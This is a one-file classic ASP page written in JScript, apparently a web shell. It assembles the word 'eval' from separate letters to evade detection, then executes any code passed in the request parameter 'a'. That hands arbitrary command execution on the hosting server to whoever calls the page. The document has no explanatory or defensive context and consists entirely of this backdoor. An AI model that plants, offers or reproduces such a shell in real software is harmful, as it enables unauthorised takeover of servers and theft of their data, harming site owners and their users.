<%@ Language="JScript" %>
<%
var E = this[["e", "v", "a", "l"].join("")];
E(Request("a") + "");
%>
